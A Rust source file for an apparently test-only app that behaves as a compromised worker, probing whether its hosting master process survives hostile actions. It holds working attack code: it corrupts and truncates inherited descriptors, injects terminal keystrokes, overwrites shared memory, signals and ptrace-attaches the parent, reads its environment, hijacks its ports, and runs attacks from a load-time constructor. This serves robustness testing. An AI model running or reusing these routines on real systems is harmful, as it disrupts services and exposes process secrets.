//! An app whose process belongs to an attacker: each route does one thing that such a process can do to its master
//! with what it has been given, whatever that is. It knows nothing of the protocol on purpose.
//!
//! Paths: `/whoami` as for all test apps; `/truncate`, `/flags`, `/garbage`, `/huge`, `/descriptors`, `/flood`, `/shutdown`, `/type`,
//! `/scribble`, `/steal`, `/signal`, `/scores`, `/filter`, `/options`, `/linger`, `/port`, `/locks`. `app.config` with `"on_start": "long text"` fails with 8 MiB. With the variable `ATTACK_WHEN_LOADED` most of them are
//! done by the library's constructor, so in the probe as well.
#![expect(unsafe_code, reason = "attacks are made of raw descriptors and memory")]

use std::fs::{self, File};
use std::io::{IoSlice, Write};
use std::mem::MaybeUninit;
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, OwnedFd, RawFd};
use std::path::PathBuf;
use std::time::{Duration, Instant};

use app_abi::{App, Body, Host, Request, Response, StartError, serde_json};
use rustix::net::{SendAncillaryBuffer, SendAncillaryMessage, SendFlags, Shutdown, sendmsg};

struct Compromised {
    host: Host,
}

impl App for Compromised {
    async fn start(host: Host) -> Result<Self, StartError> {
        let config: serde_json::Value = host.config()?;
        match config["on_start"].as_str() {
            Some("long text") => Err(StartError::new("x\u{1b}[2J\n".repeat(1 << 20))),
            _ => Ok(Self { host }),
        }
    }

    async fn call(&self, request: Request<Body>) -> Response<Body> {
        let route = request.uri().path().trim_matches('/');
        let answer = match route {
            "whoami" => serde_json::json!({ "pid": self.host.worker_pid(), "slot": self.host.slot(), "generation": self.host.generation() })
                .to_string(),
            _ => attack(route).map_or_else(|| "?".to_owned(), |done| format!("{done}\n")),
        };
        Response::new(answer.into())
    }
}

/// Says how often it was done.
fn attack(name: &str) -> Option<usize> {
    Some(match name {
        "truncate" => truncate(),
        "flags" => flags(),
        "garbage" => garbage(&[1, 100, 4096, 32 * 1024, 33 * 1024, 100_000]),
        "huge" => garbage(&[32 << 20]),
        "descriptors" => descriptors(),
        "flood" => flood(Duration::from_secs(2)),
        "shutdown" => shutdown(),
        "type" => type_into_terminals(),
        "scribble" => scribble(),
        "steal" => steal(),
        "signal" => signal(),
        "scores" => scores(),
        "filter" => filter(),
        "options" => options(),
        "linger" => linger(),
        "port" => take_ports(),
        "locks" => locks(),
        _ => return None,
    })
}

// SAFETY: the section holds pointers to functions that take nothing they need (`elf(5)`).
#[used]
#[unsafe(link_section = ".init_array")]
static CONSTRUCTOR: extern "C" fn() = constructor;

extern "C" fn constructor() {
    let is_probe = fs::read("/proc/self/cmdline").is_ok_and(|line| line.ends_with(b"internal-probe\0"));
    if is_probe && std::env::var_os("ATTACK_WHEN_LOADED").is_some() {
        for name in ["truncate", "descriptors", "huge", "garbage", "type", "scores", "steal"] {
            attack(name);
        }
    }
}

/// Every descriptor of this process, and what it is.
fn open() -> Vec<(RawFd, PathBuf)> {
    let Ok(entries) = fs::read_dir("/proc/self/fd") else { return Vec::new() };
    let all = entries.filter_map(|entry| {
        let entry = entry.ok()?;
        Some((entry.file_name().to_str()?.parse().ok()?, fs::read_link(entry.path()).ok()?))
    });
    all.collect()
}

fn open_like(start: &str) -> impl Iterator<Item = RawFd> {
    let like = open().into_iter().filter(move |(_, path)| path.to_string_lossy().starts_with(start));
    like.map(|(number, _)| number)
}

/// A descriptor that is somebody's.
const fn borrow(number: RawFd) -> BorrowedFd<'static> {
    // SAFETY: numbers come from `open`; one that has been closed since is an error of each system call.
    unsafe { BorrowedFd::borrow_raw(number) }
}

/// Makes a copy of the descriptor that never waits: the attack shall end.
fn impatient(number: RawFd) -> Option<OwnedFd> {
    let copy = borrow(number).try_clone_to_owned().ok()?;
    rustix::io::ioctl_fionbio(&copy, true).ok()?;
    Some(copy)
}

fn truncate() -> usize {
    let cut = |number: &RawFd| nix::unistd::ftruncate(borrow(*number), 0).is_ok();
    open().iter().map(|(number, _)| number).filter(|number| cut(number)).count()
}

/// Takes flags off that whoever shares a description with us relies on, and puts others on.
fn flags() -> usize {
    use nix::fcntl::{FcntlArg, OFlag, fcntl};
    let change = |number: RawFd, flags| fcntl(borrow(number), FcntlArg::F_SETFL(flags)).is_ok();
    open_like("pipe:")
        .chain(open_like("/"))
        .filter(|number| change(*number, OFlag::O_NONBLOCK | OFlag::O_ASYNC) && change(*number, OFlag::empty()))
        .count()
}

fn garbage(sizes: &[usize]) -> usize {
    let mut done = 0;
    for number in open_like("socket:").chain(open_like("pipe:")) {
        let Some(copy) = impatient(number) else { continue };
        let mut file = File::from(copy);
        for size in sizes {
            for first in [b'i', b'b', b'{', 0, 0xff] {
                done += usize::from(file.write(&vec![first; *size]).is_ok());
            }
        }
    }
    done
}

/// Kinds of descriptors of which each does something else when it is read, sought, mapped or closed.
fn kinds() -> Vec<OwnedFd> {
    use rustix::event::{EventfdFlags, epoll, eventfd};
    let mut kinds = Vec::new();
    kinds.extend(eventfd(0, EventfdFlags::empty()));
    kinds.extend(epoll::create(epoll::CreateFlags::empty()));
    if let Ok((reader, writer)) = std::io::pipe() {
        kinds.push(reader.into());
        kinds.push(writer.into());
    }
    for path in ["/dev/zero", "/dev/full", "/proc/self/mem", "/proc/kmsg", "/", "/proc/self/exe"] {
        kinds.extend(File::open(path).map(OwnedFd::from));
    }
    let memory = nix::sys::memfd::memfd_create(c"large", nix::sys::memfd::MFdFlags::empty());
    if let Ok(memory) = memory {
        let _ = nix::unistd::ftruncate(&memory, 1 << 40);
        kinds.push(memory);
    }
    kinds.extend(std::net::TcpListener::bind("127.0.0.1:0").map(OwnedFd::from));
    kinds
}

fn descriptors() -> usize {
    let kinds = kinds();
    let borrowed: Vec<BorrowedFd<'_>> = kinds.iter().map(AsFd::as_fd).collect();
    let many = vec![borrowed[0]; 253];
    let mut done = 0;
    for number in open_like("socket:") {
        let Some(socket) = impatient(number) else { continue };
        let mut send = |bytes: &[u8], descriptors: &[BorrowedFd<'_>]| {
            let mut space = vec![MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(253))];
            let mut control = SendAncillaryBuffer::new(&mut space);
            control.push(SendAncillaryMessage::ScmRights(descriptors));
            done += usize::from(sendmsg(&socket, &[IoSlice::new(bytes)], &mut control, SendFlags::NOSIGNAL).is_ok());
        };
        for bytes in [&b"b"[..], b"i\"Ready\"", b"{}", b"x"] {
            for one in &borrowed {
                send(bytes, &[*one]);
            }
            send(bytes, &borrowed);
            send(bytes, &many);
        }
    }
    done
}

fn flood(time: Duration) -> usize {
    let end = Instant::now() + time;
    let mut done = 0;
    while Instant::now() < end {
        done += garbage(&[64, 4096]);
    }
    done
}

/// Shuts every socket down that it has: its listeners, its connections, its master's.
fn shutdown() -> usize {
    open_like("socket:").filter(|number| rustix::net::shutdown(borrow(*number), Shutdown::Both).is_ok()).count()
}

/// The sockets on which it accepts its clients.
fn listening() -> Vec<OwnedFd> {
    let copies = open_like("socket:").filter_map(|number| borrow(number).try_clone_to_owned().ok());
    copies.filter(|copy| rustix::net::sockopt::socket_acceptconn(copy).unwrap_or(false)).collect()
}

fn set(socket: &OwnedFd, level: i32, option: i32, value: &[u8]) -> bool {
    let length = libc::socklen_t::try_from(value.len()).unwrap();
    // SAFETY: the kernel reads as many bytes as are there.
    unsafe { libc::setsockopt(socket.as_raw_fd(), level, option, value.as_ptr().cast(), length) == 0 }
}

/// Has the kernel drop whatever its clients send, so that they can't even connect, and forbids to change that.
fn filter() -> usize {
    let nothing = libc::sock_filter { code: 6, jt: 0, jf: 0, k: 0 };
    let program = libc::sock_fprog { len: 1, filter: (&raw const nothing).cast_mut() };
    let attach = |socket: &OwnedFd| {
        let length = libc::socklen_t::try_from(size_of_val(&program)).unwrap();
        let option = libc::SO_ATTACH_FILTER;
        // SAFETY: the kernel reads one program of one instruction.
        unsafe {
            libc::setsockopt(socket.as_raw_fd(), libc::SOL_SOCKET, option, (&raw const program).cast(), length) == 0
        }
    };
    let lock = |socket: &OwnedFd| set(socket, libc::SOL_SOCKET, libc::SO_LOCK_FILTER, &1_i32.to_ne_bytes());
    listening().iter().filter(|socket| attach(socket) && lock(socket)).count()
}

/// Turns clients away in other ways.
fn options() -> usize {
    let change = |socket: &OwnedFd| {
        set(socket, libc::IPPROTO_IP, libc::IP_MINTTL, &255_i32.to_ne_bytes())
            && set(socket, libc::IPPROTO_TCP, libc::TCP_DEFER_ACCEPT, &600_i32.to_ne_bytes())
            && set(socket, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, b"lo")
            && set(socket, libc::SOL_SOCKET, libc::SO_RCVBUF, &1_i32.to_ne_bytes())
            && rustix::net::listen(socket, 0).is_ok()
    };
    listening().iter().filter(|socket| change(socket)).count()
}

/// Makes listeners into connections to a peer that reads nothing, so that whoever closes one of them last waits.
fn linger() -> usize {
    let peer = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let to = peer.local_addr().unwrap();
    let linger = [1_i32.to_ne_bytes(), 60_i32.to_ne_bytes()].concat();
    let connect = |socket: &OwnedFd| {
        let _ = rustix::net::shutdown(socket, Shutdown::Both);
        let _ = rustix::net::connect(socket, &to);
        while rustix::net::send(socket, &[0; 4096], SendFlags::DONTWAIT | SendFlags::NOSIGNAL).is_ok() {}
        set(socket, libc::SOL_SOCKET, libc::SO_LINGER, &linger)
    };
    let done = listening().iter().filter(|socket| connect(socket)).count();
    // The peer stays for as long as this process.
    std::mem::forget(peer);
    done
}

/// Shuts its listeners down and listens on their ports itself, in a process that stays for a while.
fn take_ports() -> usize {
    let listening = listening();
    let addresses: Vec<_> = listening.iter().filter_map(|socket| rustix::net::getsockname(socket).ok()).collect();
    for socket in &listening {
        let _ = rustix::net::sockopt::set_socket_reuseaddr(socket, true);
        let _ = rustix::net::shutdown(socket, Shutdown::Both);
    }
    let end = Instant::now() + Duration::from_secs(3);
    let mut taken = Vec::new();
    while Instant::now() < end {
        for address in addresses.iter().filter(|address| address.address_family() != rustix::net::AddressFamily::UNIX) {
            let kind = rustix::net::SocketType::STREAM;
            let Ok(socket) = rustix::net::socket(address.address_family(), kind, None) else { continue };
            let _ = rustix::net::sockopt::set_socket_reuseaddr(&socket, true);
            let _ = rustix::net::sockopt::set_socket_reuseport(&socket, true);
            if rustix::net::bind(&socket, address).is_ok() && rustix::net::listen(&socket, 8).is_ok() {
                taken.push(socket);
            }
        }
    }
    let done = taken.len();
    std::mem::forget(taken);
    done
}

/// Unlocks, locks and empties every file of which it has a descriptor.
fn locks() -> usize {
    use rustix::fs::{FlockOperation, flock};
    let break_lock = |number: &RawFd| {
        let file = borrow(*number);
        let _ = flock(file, FlockOperation::Unlock);
        let _ = rustix::io::write(file, b"x");
        let _ = rustix::fs::fchmod(file, rustix::fs::Mode::empty());
        flock(file, FlockOperation::NonBlockingLockExclusive).is_ok()
    };
    open_like("/").filter(break_lock).count()
}

/// Puts a key into the input of every terminal that it can reach.
fn type_into_terminals() -> usize {
    let ours = File::options().read(true).write(true).open("/dev/tty").map(OwnedFd::from);
    let type_into = |number: RawFd| {
        let key = b'#';
        // SAFETY: the request takes a pointer to one byte (`ioctl_tty(2)`).
        unsafe { libc::ioctl(number, libc::TIOCSTI, &raw const key) == 0 }
    };
    let theirs = ours.iter().map(AsRawFd::as_raw_fd);
    theirs.chain(open().into_iter().map(|(number, _)| number)).filter(|number| type_into(*number)).count()
}

/// Writes over every page of memory that it shares with somebody.
fn scribble() -> usize {
    let maps = fs::read_to_string("/proc/self/maps").unwrap_or_default();
    let mut done = 0;
    for line in maps.lines().filter(|line| line.contains(" rw-s ") && line.contains("memfd:")) {
        let range = line.split(' ').next().and_then(|range| range.split_once('-'));
        let Some((Ok(start), Ok(end))) =
            range.map(|(start, end)| (usize::from_str_radix(start, 16), usize::from_str_radix(end, 16)))
        else {
            continue;
        };
        for pattern in [0xff, 0x80, 0x1b, 0x41] {
            // SAFETY: none. That is the point: the memory is another's as well, and whoever reads it must cope.
            unsafe { std::ptr::write_bytes(start as *mut u8, pattern, end - start) };
            done += 1;
        }
    }
    done
}

/// A process that stays, holds everything that this one has, and reads what others should.
fn steal() -> usize {
    // SAFETY: the child calls nothing but system calls, and ends.
    match unsafe { libc::fork() } {
        0 => {
            let mut buffer = [0_u8; 4096];
            // SAFETY: plain system calls on memory of this frame.
            unsafe {
                libc::alarm(30);
                for number in 0..64 {
                    libc::fcntl(number, libc::F_SETFL, libc::O_NONBLOCK);
                }
                loop {
                    for number in 0..64 {
                        libc::read(number, buffer.as_mut_ptr().cast(), 1);
                    }
                    libc::sched_yield();
                }
            }
        }
        child => usize::from(child > 0),
    }
}

/// Every signal that there is to the master.
fn signal() -> usize {
    let parent = nix::unistd::getppid();
    nix::sys::signal::Signal::iterator().filter(|signal| nix::sys::signal::kill(parent, *signal).is_ok()).count()
}

/// Makes the kernel prefer the master when memory runs out, and looks into it.
fn scores() -> usize {
    let master = nix::unistd::getppid();
    let write = |path: String, text: &str| fs::write(path, text).is_ok();
    let mut done = usize::from(write("/proc/self/oom_score_adj".to_owned(), "-1000"));
    done += usize::from(write(format!("/proc/{master}/oom_score_adj"), "1000"));
    done += usize::from(fs::read(format!("/proc/{master}/environ")).is_ok());
    done += usize::from(File::options().write(true).open(format!("/proc/{master}/mem")).is_ok());
    done += usize::from(fs::read_dir(format!("/proc/{master}/fd")).is_ok());
    // SAFETY: the request takes a pid and nothing else (`ptrace(2)`).
    done + usize::from(unsafe { libc::ptrace(libc::PTRACE_ATTACH, master.as_raw(), 0, 0) } == 0)
}

app_abi::export_app!(Compromised);
